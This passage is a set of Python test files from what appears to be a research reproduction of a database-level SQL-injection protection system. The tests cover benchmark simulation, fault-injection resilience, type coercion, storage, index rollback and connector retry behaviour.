    assert first.wal_lsn == second.wal_lsn
