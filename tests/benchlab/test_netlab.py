"""NetLab: the virtual-time pipelining model must be deterministic and
must reproduce the shape the socket bench measures on real TCP."""

from repro.benchlab.netlab import (
    run_netlab_experiment,
    run_pipelined,
    run_round_trip,
)


class TestDeterminism(object):
    def test_identical_runs_produce_identical_numbers(self):
        first = run_netlab_experiment(connections=4,
                                      commands_per_connection=30,
                                      rtt_ticks=8.0, service_ticks=1.0,
                                      window=8)
        second = run_netlab_experiment(connections=4,
                                       commands_per_connection=30,
                                       rtt_ticks=8.0, service_ticks=1.0,
                                       window=8)
        assert first == second

    def test_all_commands_complete(self):
        result = run_round_trip(connections=3, commands_per_connection=7)
        assert result.commands == 21
        assert result.server_busy_ticks == 21 * 1.0
        assert result.round_trips == 21


class TestPipeliningShape(object):
    def test_pipelining_beats_round_trips(self):
        outcome = run_netlab_experiment(connections=8,
                                        commands_per_connection=50)
        assert outcome["speedup"] > 1.0
        assert outcome["pipelined"]["round_trips"] < \
            outcome["round_trip"]["round_trips"]

    def test_single_connection_speedup_approaches_the_model(self):
        # one connection, rtt >> service: round-trip pays rtt+service
        # per command; a window of w pays rtt once per w commands, so
        # the speedup approaches (rtt + service) / (rtt/w + service)
        rtt, service, window = 10.0, 1.0, 10
        outcome = run_netlab_experiment(connections=1,
                                        commands_per_connection=100,
                                        rtt_ticks=rtt,
                                        service_ticks=service,
                                        window=window)
        predicted = (rtt + service) / (rtt / window + service)
        assert abs(outcome["speedup"] - predicted) / predicted < 0.1

    def test_window_one_degenerates_to_round_trips(self):
        base = run_round_trip(connections=2, commands_per_connection=20)
        piped = run_pipelined(connections=2, commands_per_connection=20,
                              window=1)
        assert piped.makespan == base.makespan
        assert piped.round_trips == base.round_trips

    def test_saturated_server_caps_the_speedup(self):
        # when service dominates rtt, the server is the bottleneck and
        # pipelining cannot manufacture throughput
        outcome = run_netlab_experiment(connections=8,
                                        commands_per_connection=40,
                                        rtt_ticks=0.5,
                                        service_ticks=4.0)
        assert outcome["speedup"] < 1.5
