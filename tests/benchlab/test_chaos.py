"""The chaos workload harness (repro.benchlab.chaos)."""

import pytest

from repro import faults
from repro.apps import AddressBook
from repro.benchlab.chaos import (
    default_chaos_plan,
    format_chaos_result,
    run_chaos,
)
from repro.core.resilience import FailPolicy
from repro.faults import FaultKind, FaultPlan


def test_default_plan_covers_all_fault_kinds():
    plan = default_chaos_plan()
    kinds = {spec.kind for spec in plan.specs()}
    assert kinds == set(FaultKind.ALL)


def test_chaos_replay_survives_fail_closed():
    result = run_chaos(AddressBook, fail_policy=FailPolicy.CLOSED, loops=3)
    assert result.survived
    assert result.requests > 0
    assert result.injected > 0
    # fail-closed: contained hook faults surface as clean error pages
    stats = result.septic_stats
    assert stats["internal_faults"] > 0
    assert stats["fail_closed_drops"] == result.error_responses
    assert faults.ACTIVE is None  # the harness always disarms


def test_chaos_replay_fail_open_serves_everything():
    result = run_chaos(AddressBook, fail_policy=FailPolicy.OPEN, loops=3)
    assert result.survived
    assert result.error_responses == 0
    assert result.septic_stats["fail_open_passes"] > 0


def test_chaos_is_deterministic():
    first = run_chaos(AddressBook, loops=2)
    second = run_chaos(AddressBook, loops=2)
    assert first.septic_stats == second.septic_stats
    assert first.hits_by_site == second.hits_by_site
    assert first.injected == second.injected
    assert (first.ok_responses, first.error_responses) == \
        (second.ok_responses, second.error_responses)


def test_custom_plan_and_counters():
    plan = FaultPlan()
    plan.inject("detector.run", FaultKind.RAISE, times=2)
    result = run_chaos(AddressBook, plan=plan,
                       fail_policy=FailPolicy.OPEN, loops=1,
                       label="custom")
    assert result.label == "custom"
    assert result.injected == 2
    assert result.septic_stats["internal_faults"] == 2


def test_unknown_fail_policy_rejected():
    with pytest.raises(ValueError):
        run_chaos(AddressBook, fail_policy="fail_maybe")


def test_format_chaos_result_is_complete():
    result = run_chaos(AddressBook, loops=1)
    text = format_chaos_result(result)
    assert "survived=" in text
    assert "internal_faults" in text
    assert "store integrity" in text
