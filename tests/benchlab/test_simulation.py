"""Tests for the discrete-event simulation kernel."""

import pytest

from repro.benchlab.simulation import Simulator


class TestSimulator(object):
    def test_events_run_in_time_order(self):
        sim = Simulator()
        order = []
        sim.schedule(3.0, order.append, "c")
        sim.schedule(1.0, order.append, "a")
        sim.schedule(2.0, order.append, "b")
        sim.run()
        assert order == ["a", "b", "c"]
        assert sim.now == 3.0

    def test_ties_broken_by_insertion_order(self):
        sim = Simulator()
        order = []
        for label in "abc":
            sim.schedule(1.0, order.append, label)
        sim.run()
        assert order == ["a", "b", "c"]

    def test_negative_delay_rejected(self):
        with pytest.raises(ValueError):
            Simulator().schedule(-1, lambda: None)

    def test_callbacks_can_schedule(self):
        sim = Simulator()
        seen = []

        def tick(n):
            seen.append(sim.now)
            if n > 0:
                sim.schedule(1.0, tick, n - 1)

        sim.schedule(0.0, tick, 3)
        sim.run()
        assert seen == [0.0, 1.0, 2.0, 3.0]

    def test_run_until(self):
        sim = Simulator()
        seen = []
        for t in (1.0, 2.0, 3.0):
            sim.schedule(t, seen.append, t)
        sim.run(until=2.0)
        assert seen == [1.0, 2.0]
        assert sim.pending == 1
        sim.run()
        assert seen == [1.0, 2.0, 3.0]

    def test_max_events(self):
        sim = Simulator()
        for t in range(10):
            sim.schedule(float(t), lambda: None)
        assert sim.run(max_events=4) == 4
        assert sim.pending == 6

    def test_clock_never_goes_backwards(self):
        sim = Simulator()
        times = []
        sim.schedule(5.0, lambda: times.append(sim.now))
        sim.schedule(1.0, lambda: times.append(sim.now))
        sim.run()
        assert times == sorted(times)

    def test_events_processed_counter(self):
        sim = Simulator()
        sim.schedule(1.0, lambda: None)
        sim.schedule(2.0, lambda: None)
        sim.run()
        assert sim.events_processed == 2

    def test_deterministic_across_runs(self):
        def run_once():
            sim = Simulator()
            trace = []

            def job(name, delay):
                trace.append((round(sim.now, 6), name))
                if delay < 4:
                    sim.schedule(delay, job, name, delay * 2)

            sim.schedule(0.5, job, "x", 1.0)
            sim.schedule(0.5, job, "y", 1.5)
            sim.run()
            return trace

        assert run_once() == run_once()
