"""Tests for the BenchLab machines, browsers and harness."""

import pytest

from repro.apps import AddressBook, Refbase
from repro.benchlab.harness import build_stack, run_benchlab
from repro.benchlab.machines import NetworkLink, ServerMachine
from repro.benchlab.simulation import Simulator
from repro.benchlab.workload import Workload, paper_workloads, workload_for
from repro.sqldb.engine import Database
from repro.web.http import Request, Response
from repro.web.server import WebServer


class TestNetworkLink(object):
    def test_latency_includes_rtt_and_transfer(self):
        link = NetworkLink(rtt=0.002, bandwidth_bytes_per_s=1000.0)
        assert link.latency(0) == 0.002
        assert link.latency(1000) == pytest.approx(1.002)


class TestWorkload(object):
    def test_paper_sizes(self):
        assert paper_workloads() == {
            "addressbook": 12, "refbase": 14, "zerocms": 26,
        }

    def test_workload_for_app(self):
        app = AddressBook(Database())
        workload = workload_for(app)
        assert workload.name == "addressbook"
        assert len(workload) == 12

    def test_iteration(self):
        workload = Workload("w", [Request.get("/a"), Request.get("/b")])
        assert [r.path for r in workload] == ["/a", "/b"]


class _StubServer(object):
    """Server stub counting requests (no WAF, fixed response)."""

    def __init__(self):
        self.app = type(
            "App", (), {
                "database": Database(),
                "php": type("Php", (), {"last_outcome": None})(),
            }
        )()
        self.handled = 0

    def handle(self, request):
        self.handled += 1
        return Response("x" * 100)


class TestServerMachine(object):
    def test_worker_limit_queues_requests(self):
        sim = Simulator()
        station = ServerMachine(sim, _StubServer(), workers=1)
        done = []
        for i in range(3):
            station.submit(Request.get("/p"), lambda r, s: done.append(s))
        sim.run()
        assert len(done) == 3
        assert station.requests_completed == 3

    def test_static_requests_cheaper(self):
        sim = Simulator()
        station = ServerMachine(sim, _StubServer(), workers=2)
        services = []
        station.submit(Request.get("/static/x.css"),
                       lambda r, s: services.append(("static", s)))
        station.submit(Request.get("/page"),
                       lambda r, s: services.append(("page", s)))
        sim.run()
        by_kind = dict(services)
        assert by_kind["static"] < by_kind["page"]


class TestHarness(object):
    def test_build_stack_baseline_has_no_septic(self):
        server, app, septic = build_stack(AddressBook, None)
        assert septic is None
        assert app.database.septic is None

    def test_build_stack_trains_septic(self):
        server, app, septic = build_stack(AddressBook, "YY")
        assert septic is not None
        assert len(septic.store) > 0
        assert septic.mode == "PREVENTION"

    def test_run_benchlab_collects_latencies(self):
        result = run_benchlab(AddressBook, None, machines=1,
                              browsers_per_machine=1, loops=2)
        assert result.requests == 24          # 12-request workload x 2
        assert result.avg_latency > 0
        assert result.p95_latency >= result.avg_latency * 0.5
        assert result.throughput > 0

    def test_septic_run_measures_hook_time(self):
        result = run_benchlab(AddressBook, "YY", machines=1,
                              browsers_per_machine=1, loops=2)
        assert result.measured_seconds > 0

    def test_no_false_positives_under_load(self):
        server, app, septic = build_stack(Refbase, "YY")
        for _ in range(3):
            for request in app.workload_requests():
                assert app.handle(request).status == 200
        assert septic.stats.queries_dropped == 0

    def test_overhead_vs(self):
        base = run_benchlab(AddressBook, None, machines=1,
                            browsers_per_machine=1, loops=2)
        with_septic = run_benchlab(AddressBook, "YY", machines=1,
                                   browsers_per_machine=1, loops=2)
        overhead = with_septic.overhead_vs(base)
        assert overhead > 0        # SEPTIC always costs something
        assert overhead < 0.25     # and never a quarter of the latency

    def test_more_browsers_more_requests(self):
        small = run_benchlab(AddressBook, None, machines=1,
                             browsers_per_machine=1, loops=1)
        big = run_benchlab(AddressBook, None, machines=2,
                           browsers_per_machine=2, loops=1)
        assert big.requests == 4 * small.requests


class TestThinkTime(object):
    def test_think_time_reduces_offered_load(self):
        from repro.apps import AddressBook

        tight = run_benchlab(AddressBook, None, machines=1,
                             browsers_per_machine=2, loops=2)
        relaxed = run_benchlab(AddressBook, None, machines=1,
                               browsers_per_machine=2, loops=2,
                               think_time=0.05)
        assert relaxed.requests == tight.requests
        assert relaxed.virtual_duration > tight.virtual_duration
        assert relaxed.throughput < tight.throughput

    def test_think_time_zero_is_default(self):
        from repro.apps import AddressBook

        a = run_benchlab(AddressBook, None, machines=1,
                         browsers_per_machine=1, loops=1)
        b = run_benchlab(AddressBook, None, machines=1,
                         browsers_per_machine=1, loops=1, think_time=0.0)
        assert abs(a.virtual_duration - b.virtual_duration) < \
            a.virtual_duration * 0.5
