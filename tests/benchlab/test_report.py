"""Tests for the BenchLab report formatting helpers."""

from repro.benchlab.harness import BenchLabResult
from repro.benchlab.report import (
    format_overhead_table,
    format_result_line,
    format_scaling_rows,
)


def result(label, latencies, septic=0.0):
    return BenchLabResult(label, latencies, virtual_duration=1.0,
                          measured_seconds=septic)


class TestFormatResultLine(object):
    def test_basic_fields(self):
        line = format_result_line(result("YY", [0.003, 0.005], 0.0001))
        assert "YY" in line
        assert "avg=4.000 ms" in line
        assert "req/s" in line
        assert "µs/req" in line

    def test_overhead_against_baseline(self):
        base = result("baseline", [0.004])
        fast = result("YY", [0.005])
        line = format_result_line(fast, baseline=base)
        assert "overhead=+25.00%" in line

    def test_baseline_line_has_no_overhead(self):
        base = result("baseline", [0.004])
        assert "overhead" not in format_result_line(base, baseline=base)


class TestFormatTables(object):
    def test_overhead_table(self):
        table = {
            "appa": {"NN": 0.005, "YN": 0.008, "NY": 0.01, "YY": 0.022},
            "appb": {"NN": 0.004, "YN": 0.007, "NY": 0.011, "YY": 0.020},
        }
        text = format_overhead_table(table)
        lines = text.splitlines()
        assert lines[0].split() == ["app", "NN", "YN", "NY", "YY"]
        assert "appa" in lines[1] and "2.20%" in lines[1]
        assert "appb" in lines[2]

    def test_scaling_rows(self):
        rows = [
            (1, 1, result("1x1", [0.003])),
            (20, 4, result("4x5", [0.004])),
        ]
        text = format_scaling_rows(rows)
        assert "browsers" in text
        assert "20" in text and "3.00 ms" in text
