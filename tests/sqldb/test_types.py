"""Tests for MySQL-flavoured value semantics."""

import pytest

from repro.sqldb.types import (
    coerce_to_number,
    compare,
    is_truthy,
    null_safe_equal,
    render_value,
    sort_key,
    store_convert,
)


class TestCoerceToNumber(object):
    def test_none(self):
        assert coerce_to_number(None) is None

    def test_int_float_passthrough(self):
        assert coerce_to_number(5) == 5
        assert coerce_to_number(2.5) == 2.5

    def test_bool(self):
        assert coerce_to_number(True) == 1

    def test_prefix_int(self):
        assert coerce_to_number("1abc") == 1

    def test_prefix_float(self):
        assert coerce_to_number("12.5x") == 12.5

    def test_garbage_is_zero(self):
        assert coerce_to_number("abc") == 0

    def test_empty_is_zero(self):
        assert coerce_to_number("") == 0

    def test_whitespace_stripped(self):
        assert coerce_to_number("  42  ") == 42

    def test_sign(self):
        assert coerce_to_number("-3") == -3
        assert coerce_to_number("+7") == 7

    def test_lone_sign_is_zero(self):
        assert coerce_to_number("-") == 0

    def test_scientific(self):
        assert coerce_to_number("1e3") == 1000.0

    def test_dot_only(self):
        assert coerce_to_number(".") == 0

    def test_leading_dot(self):
        assert coerce_to_number(".5x") == 0.5


class TestCompare(object):
    def test_null_propagates(self):
        assert compare(None, 1) is None
        assert compare("x", None) is None

    def test_numeric(self):
        assert compare(1, 2) == -1
        assert compare(2, 1) == 1
        assert compare(2, 2) == 0

    def test_string_numeric_coercion(self):
        # the classic: '1abc' = 1 is true in MySQL
        assert compare("1abc", 1) == 0
        assert compare("abc", 0) == 0

    def test_string_string_case_insensitive(self):
        assert compare("Admin", "admin") == 0
        assert compare("a", "b") == -1

    def test_string_confusable_folding(self):
        # utf8_general_ci treats U+02BC like the ASCII quote
        assert compare("oʼbrien", "o'brien") == 0

    def test_null_safe_equal(self):
        assert null_safe_equal(None, None) == 1
        assert null_safe_equal(None, 1) == 0
        assert null_safe_equal(3, "3") == 1


class TestTruthiness(object):
    def test_null_is_none(self):
        assert is_truthy(None) is None

    def test_nonzero_number(self):
        assert is_truthy(5) is True
        assert is_truthy(0) is False

    def test_string_prefix(self):
        assert is_truthy("1x") is True
        assert is_truthy("x") is False  # 'x' coerces to 0


class TestSortKey(object):
    def test_nulls_first(self):
        values = ["b", None, 1, "a"]
        ordered = sorted(values, key=sort_key)
        assert ordered[0] is None

    def test_numbers_before_strings(self):
        assert sorted(["z", 5], key=sort_key) == [5, "z"]

    def test_case_insensitive_strings(self):
        assert sorted(["B", "a"], key=sort_key) == ["a", "B"]


class TestStoreConvert(object):
    def test_int_from_string(self):
        assert store_convert("42abc", "INT") == 42

    def test_float(self):
        assert store_convert("2.5", "FLOAT") == 2.5

    def test_varchar_silent_truncation(self):
        assert store_convert("abcdef", "VARCHAR", 3) == "abc"

    def test_text_not_truncated(self):
        assert store_convert("x" * 100, "TEXT", 3) == "x" * 100

    def test_null_passthrough(self):
        assert store_convert(None, "INT") is None

    def test_number_to_string(self):
        assert store_convert(5, "VARCHAR", 10) == "5"
        assert store_convert(5.0, "VARCHAR", 10) == "5"

    def test_bool_to_int(self):
        assert store_convert(True, "BOOLEAN") == 1

    def test_unknown_type_rejected(self):
        with pytest.raises(ValueError):
            store_convert("x", "BLOB")


class TestRenderValue(object):
    def test_null(self):
        assert render_value(None) == "NULL"

    def test_float_integral(self):
        assert render_value(3.0) == "3"

    def test_string_passthrough(self):
        assert render_value("x") == "x"
