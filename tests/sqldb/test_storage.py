"""Direct tests for the storage engine (Table/Column/ResultSet)."""

import pytest

from repro.sqldb.errors import ExecutionError
from repro.sqldb.storage import Column, ResultSet, Table


def make_table():
    return Table("t", [
        Column("id", "INT", primary_key=True, auto_increment=True),
        Column("name", "VARCHAR", length=10, not_null=True),
        Column("score", "FLOAT", default=1.5),
        Column("tag", "VARCHAR", length=5, unique=True),
    ])


class TestTable(object):
    def test_auto_increment_sequence(self):
        table = make_table()
        assert table.insert({"name": "a"}) == 1
        assert table.insert({"name": "b"}) == 2
        assert len(table) == 2

    def test_explicit_id_advances_counter(self):
        table = make_table()
        table.insert({"id": 10, "name": "a"})
        assert table.insert({"name": "b"}) == 11

    def test_default_applied(self):
        table = make_table()
        table.insert({"name": "a"})
        assert table.rows[0]["score"] == 1.5

    def test_not_null_text_backfill(self):
        table = make_table()
        table.insert({})
        assert table.rows[0]["name"] == ""

    def test_varchar_truncation(self):
        table = make_table()
        table.insert({"name": "abcdefghijKLMNOP"})
        assert table.rows[0]["name"] == "abcdefghij"

    def test_primary_key_conflict(self):
        table = make_table()
        table.insert({"id": 1, "name": "a"})
        with pytest.raises(ExecutionError) as err:
            table.insert({"id": 1, "name": "b"})
        assert err.value.errno == 1062

    def test_unique_conflict(self):
        table = make_table()
        table.insert({"name": "a", "tag": "x"})
        with pytest.raises(ExecutionError):
            table.insert({"name": "b", "tag": "x"})

    def test_unique_allows_null_duplicates(self):
        table = make_table()
        table.insert({"name": "a"})
        table.insert({"name": "b"})  # both tags NULL: fine
        assert len(table) == 2

    def test_duplicate_column_rejected(self):
        with pytest.raises(ExecutionError):
            Table("bad", [Column("x", "INT"), Column("x", "INT")])

    def test_has_column_and_names(self):
        table = make_table()
        assert table.has_column("NAME")       # case-insensitive
        assert not table.has_column("nope")
        assert table.column_names() == ["id", "name", "score", "tag"]

    def test_convert_uses_column_type(self):
        table = make_table()
        assert table.convert("score", "2.5x") == 2.5
        assert table.convert("name", 123) == "123"


class TestResultSet(object):
    def test_accessors(self):
        rs = ResultSet(["a", "b"], [(1, "x"), (2, "y")])
        assert len(rs) == 2
        assert rs.scalar() == 1
        assert rs.column("b") == ["x", "y"]
        assert rs.rows_as_dicts() == [
            {"a": 1, "b": "x"}, {"a": 2, "b": "y"},
        ]

    def test_scalar_of_empty(self):
        assert ResultSet(["a"], []).scalar() is None

    def test_equality(self):
        assert ResultSet(["a"], [(1,)]) == ResultSet(["a"], [(1,)])
        assert ResultSet(["a"], [(1,)]) != ResultSet(["a"], [(2,)])

    def test_rows_are_tuples(self):
        rs = ResultSet(["a"], [[1], [2]])
        assert all(isinstance(row, tuple) for row in rs.rows)

    def test_iteration(self):
        rs = ResultSet(["a"], [(1,), (2,)])
        assert [row[0] for row in rs] == [1, 2]
