"""Incremental index maintenance: deltas, rollback restore, recovery.

The regression this file pins down: a transaction over an indexed table
must not cost an O(n) index rebuild — BEGIN snapshots the live index
structure, mutations inside the transaction apply per-row deltas, and
ROLLBACK *restores* the snapshot (counted in ``index_stats()['restores']``)
instead of invalidating the cache.
"""

import shutil
import tempfile

import pytest

from repro.benchlab.crashsweep import verify_index_consistency
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database
from repro.sqldb.storage import Column, Table


def _ledger():
    table = Table("ledger", [
        Column("acct", "INT"),
        Column("amount", "INT"),
        Column("tag", "VARCHAR", length=10),
    ])
    for acct, amount, tag in ((1, 10, "a"), (2, 20, "b"), (1, 30, "c"),
                              (3, 40, None)):
        table.insert({"acct": acct, "amount": amount, "tag": tag})
    return table


class TestIncrementalDeltas(object):
    def test_insert_applies_delta_not_rebuild(self):
        table = _ledger()
        assert len(table.index_lookup("acct", 1)) == 2
        stats = table.index_stats()
        assert stats["rebuilds"] == 1  # the initial build only
        table.insert({"acct": 1, "amount": 99, "tag": "z"})
        assert len(table.index_lookup("acct", 1)) == 3
        after = table.index_stats()
        assert after["rebuilds"] == 1
        assert after["incremental"] > stats["incremental"]

    def test_update_rebuckets_row(self):
        table = _ledger()
        table.index_lookup("acct", 1)  # prime the index
        row = table.index_lookup("acct", 2)[0]
        # update_row installs a fresh version dict (MVCC) and returns it;
        # the caller's old reference keeps the pre-update image
        new_row = table.update_row(row, {"acct": 7})
        assert row["acct"] == 2
        assert table.index_lookup("acct", 2) == []
        assert table.index_lookup("acct", 7) == [new_row]
        assert table.index_stats()["rebuilds"] == 1

    def test_delete_removes_from_bucket(self):
        table = _ledger()
        table.index_lookup("acct", 1)
        doomed = table.index_lookup("acct", 1)[:1]
        table.delete_rows(doomed)
        assert len(table.index_lookup("acct", 1)) == 1
        assert table.index_stats()["rebuilds"] == 1

    def test_truncate_empties_index(self):
        table = _ledger()
        table.index_lookup("acct", 1)
        table.truncate()
        assert table.index_lookup("acct", 1) == []
        assert table.index_stats()["rebuilds"] == 1

    def test_touch_forces_rebuild(self):
        # mutations outside the Table API leave the index stale on
        # purpose; the version check catches it on the next lookup
        table = _ledger()
        table.index_lookup("acct", 1)
        row = dict(table.rows[0])
        row["acct"] = 9
        table.rows.append(row)
        table.touch()
        assert table.index_lookup("acct", 9) == [row]
        assert table.index_stats()["rebuilds"] == 2


class TestRangeIndex(object):
    def test_between_bounds_inclusive(self):
        table = _ledger()
        rows = table.index_range("amount", 20, 30)
        assert sorted(r["amount"] for r in rows) == [20, 30]

    def test_exclusive_bounds(self):
        table = _ledger()
        rows = table.index_range("amount", 10, 40,
                                 low_inclusive=False,
                                 high_inclusive=False)
        assert sorted(r["amount"] for r in rows) == [20, 30]

    def test_open_range_skips_nulls(self):
        table = _ledger()
        rows = table.index_range("tag")
        assert sorted(r["tag"] for r in rows) == ["a", "b", "c"]

    def test_rows_come_back_in_key_order(self):
        table = _ledger()
        amounts = [r["amount"] for r in table.index_range("amount", 0, 99)]
        assert amounts == sorted(amounts)


@pytest.fixture
def bank():
    database = Database()
    database.seed(
        """
        CREATE TABLE accounts (
            id INT PRIMARY KEY AUTO_INCREMENT,
            owner VARCHAR(40),
            balance INT
        );
        CREATE INDEX idx_owner ON accounts (owner);
        INSERT INTO accounts (owner, balance) VALUES
            ('alice', 100), ('bob', 50), ('carol', 200);
        """
    )
    return database, Connection(database)


class TestRollbackRestoresIndexes(object):
    def test_rollback_restores_index_without_rebuild(self, bank):
        # the satellite regression: snapshot -> insert -> rollback ->
        # lookups answer from the restored structure, zero rebuilds
        database, conn = bank
        table = database.table("accounts")
        assert len(table.index_lookup("owner", "alice")) == 1
        primed = table.index_stats()["rebuilds"]

        conn.query_or_raise("BEGIN")
        conn.query_or_raise(
            "INSERT INTO accounts (owner, balance) VALUES ('mallory', 1)"
        )
        assert len(table.index_lookup("owner", "mallory")) == 1
        conn.query_or_raise("ROLLBACK")

        assert table.index_lookup("owner", "mallory") == []
        assert len(table.index_lookup("owner", "alice")) == 1
        after = table.index_stats()
        assert after["rebuilds"] == primed
        assert after["restores"] >= 1

    def test_rollback_restores_updated_buckets(self, bank):
        database, conn = bank
        table = database.table("accounts")
        table.index_lookup("owner", "bob")
        primed = table.index_stats()["rebuilds"]
        conn.query_or_raise("BEGIN")
        conn.query_or_raise(
            "UPDATE accounts SET owner = 'robert' WHERE owner = 'bob'"
        )
        conn.query_or_raise("ROLLBACK")
        assert len(table.index_lookup("owner", "bob")) == 1
        assert table.index_lookup("owner", "robert") == []
        assert table.index_stats()["rebuilds"] == primed

    def test_restored_index_stays_live_for_new_mutations(self, bank):
        database, conn = bank
        table = database.table("accounts")
        table.index_lookup("owner", "alice")
        conn.query_or_raise("BEGIN")
        conn.query_or_raise("DELETE FROM accounts WHERE owner = 'alice'")
        conn.query_or_raise("ROLLBACK")
        primed = table.index_stats()["rebuilds"]
        conn.query_or_raise(
            "INSERT INTO accounts (owner, balance) VALUES ('dave', 5)"
        )
        assert len(table.index_lookup("owner", "dave")) == 1
        assert table.index_stats()["rebuilds"] == primed


class TestRecoveryIndexConsistency(object):
    def test_post_recover_lookups_match_full_scan(self):
        tmp = tempfile.mkdtemp(prefix="idx-recover-")
        try:
            database = Database.recover(tmp)
            conn = Connection(database)
            conn.query_or_raise(
                "CREATE TABLE readings (id INT PRIMARY KEY AUTO_INCREMENT,"
                " device VARCHAR(20), watts INT)"
            )
            conn.query_or_raise(
                "CREATE INDEX idx_device ON readings (device)"
            )
            for i in range(12):
                conn.query_or_raise(
                    "INSERT INTO readings (device, watts) "
                    "VALUES ('dev-%d', %d)" % (i % 3, i * 10)
                )
            conn.query_or_raise(
                "UPDATE readings SET watts = watts + 1 WHERE device = 'dev-1'"
            )
            conn.query_or_raise("DELETE FROM readings WHERE watts > 100")
            database.close()

            recovered = Database.recover(tmp)
            try:
                table = recovered.table("readings")
                scan = sorted(r["id"] for r in table.rows
                              if r["device"] == "dev-1")
                via_index = sorted(
                    r["id"] for r in table.index_lookup("device", "dev-1")
                )
                assert via_index == scan
                assert verify_index_consistency(recovered) == []
            finally:
                recovered.close()
        finally:
            shutil.rmtree(tmp, ignore_errors=True)
