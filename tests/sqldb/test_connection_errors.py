"""The client connector's error contract (satellites of the resilience
work):

* every error path in ``query``/``multi_query`` yields a
  :class:`QueryOutcome` carrying a real :class:`SQLError` — raw
  exceptions never escape to application code;
* ``multi_query`` has defined stop-on-first-error semantics;
* transient engine faults are retried with bounded exponential backoff;
* a SEPTIC :class:`QueryBlocked` mid-transaction leaves the
  transaction/session state fully consistent.
"""

import pytest

from repro import faults
from repro.core.logger import SepticLogger
from repro.core.septic import Mode, Septic
from repro.faults import FaultKind, FaultPlan, InjectedFault
from repro.sqldb.connection import Connection, QueryOutcome
from repro.sqldb.engine import Database
from repro.sqldb.errors import (
    MultiStatementError,
    ParseError,
    QueryBlocked,
    SQLError,
    TransientEngineError,
    ValidationError,
)

from tests.conftest import TICKETS_SCHEMA, TICKET_QUERY


class TestErrorCapture(object):
    def test_parse_error_is_captured(self, conn):
        outcome = conn.query("SELEKT * FROM tickets")
        assert not outcome.ok
        assert isinstance(outcome.error, ParseError)
        assert conn.last_error is outcome.error

    def test_validation_error_is_captured(self, conn):
        outcome = conn.query("SELECT * FROM no_such_table")
        assert isinstance(outcome.error, ValidationError)

    def test_multi_statement_rejected_without_optin(self, conn):
        outcome = conn.query("SELECT 1; SELECT 2")
        assert isinstance(outcome.error, MultiStatementError)

    def test_ok_clears_last_error(self, conn):
        conn.query("SELEKT *")
        assert conn.last_error is not None
        assert conn.query("SELECT * FROM tickets").ok
        assert conn.last_error is None

    def test_injected_engine_crash_is_wrapped(self, conn):
        plan = FaultPlan()
        plan.inject("executor.step", FaultKind.RAISE, times=1)
        with faults.armed(plan):
            outcome = conn.query("SELECT * FROM tickets")
        assert isinstance(outcome.error, TransientEngineError)
        assert not isinstance(outcome.error, InjectedFault)
        assert outcome.error.transient
        assert outcome.error.errno == 2013

    def test_injected_decode_crash_is_wrapped(self, conn):
        plan = FaultPlan()
        plan.inject("charset.decode", FaultKind.RAISE, times=1)
        with faults.armed(plan):
            outcome = conn.query("SELECT * FROM tickets WHERE id = 9")
        assert isinstance(outcome.error, TransientEngineError)

    def test_cache_fault_degrades_to_cold_path(self, db):
        conn = Connection(db)
        assert conn.query("SELECT * FROM tickets").ok  # warm the cache
        plan = FaultPlan()
        plan.inject("cache.lookup", FaultKind.RAISE)
        with faults.armed(plan):
            # a broken cache must not break queries
            outcome = conn.query("SELECT * FROM tickets")
        assert outcome.ok and len(outcome.rows) == 3

    def test_prepared_execute_wraps_raw_exceptions(self, conn):
        prepared = conn.prepare("SELECT * FROM tickets WHERE id = ?")
        plan = FaultPlan()
        plan.inject("executor.step", FaultKind.RAISE, times=1)
        with faults.armed(plan):
            outcome = conn.execute_prepared(prepared, 1)
        assert isinstance(outcome, QueryOutcome)
        assert isinstance(outcome.error, SQLError)


class TestMultiQuerySemantics(object):
    def test_all_ok(self, db):
        conn = Connection(db, multi_statements=True)
        outcomes = conn.multi_query(
            "SELECT * FROM tickets; SELECT * FROM tickets WHERE id = 1"
        )
        assert [o.ok for o in outcomes] == [True, True]
        assert len(outcomes[0].rows) == 3
        assert len(outcomes[1].rows) == 1

    def test_stops_on_first_error_keeps_prefix(self, db):
        conn = Connection(db, multi_statements=True)
        outcomes = conn.multi_query(
            "INSERT INTO tickets (reservID, creditCard) VALUES ('NEW1', 1);"
            "SELECT * FROM no_such_table;"
            "INSERT INTO tickets (reservID, creditCard) VALUES ('NEW2', 2)"
        )
        # one ok outcome for the executed prefix, one error, nothing after
        assert len(outcomes) == 2
        assert outcomes[0].ok and outcomes[0].affected_rows == 1
        assert isinstance(outcomes[1].error, ValidationError)
        assert conn.last_error is outcomes[1].error
        # the third statement never ran
        check = conn.query("SELECT * FROM tickets WHERE reservID = 'NEW1'")
        assert len(check.rows) == 1
        check = conn.query("SELECT * FROM tickets WHERE reservID = 'NEW2'")
        assert len(check.rows) == 0

    def test_setup_error_yields_single_error_outcome(self, db):
        conn = Connection(db, multi_statements=True)
        outcomes = conn.multi_query("SELECT * FROM; SELECT 1")
        assert len(outcomes) == 1
        assert isinstance(outcomes[0].error, SQLError)

    def test_empty_script(self, db):
        conn = Connection(db, multi_statements=True)
        outcomes = conn.multi_query("-- nothing to do")
        assert len(outcomes) == 1 and outcomes[0].ok

    def test_partial_failure_is_never_retried(self, db):
        conn = Connection(db, multi_statements=True, retries=3)
        plan = FaultPlan()
        # second executed statement crashes, transiently
        spec = plan.inject("executor.step", FaultKind.FLAKY, after=1,
                           fails=1)
        with faults.armed(plan):
            outcomes = conn.multi_query(
                "INSERT INTO tickets (reservID, creditCard) "
                "VALUES ('ONCE', 1); SELECT * FROM tickets"
            )
        # retrying would re-run the INSERT; the connector must not
        assert spec.fired == 1
        assert conn.transient_retries == 0
        assert outcomes[0].ok
        assert isinstance(outcomes[1].error, TransientEngineError)
        rows = conn.query(
            "SELECT * FROM tickets WHERE reservID = 'ONCE'"
        ).rows
        assert len(rows) == 1


class TestTransientRetry(object):
    def test_flaky_fault_retried_to_success(self, db):
        delays = []
        conn = Connection(db, retries=3, backoff=0.01, jitter=0.0,
                          sleep=delays.append)
        plan = FaultPlan()
        plan.inject("executor.step", FaultKind.FLAKY, fails=2)
        with faults.armed(plan):
            outcome = conn.query("SELECT * FROM tickets")
        assert outcome.ok and len(outcome.rows) == 3
        assert conn.transient_retries == 2
        assert delays == [0.01, 0.02]  # exponential backoff
        assert conn.retry_stats.as_dict()["retries"] == 2

    def test_jittered_backoff_is_seeded_and_bounded(self, db):
        def delays_for(seed):
            delays = []
            conn = Connection(db, retries=4, backoff=0.01, jitter=0.5,
                              retry_seed=seed, sleep=delays.append)
            plan = FaultPlan()
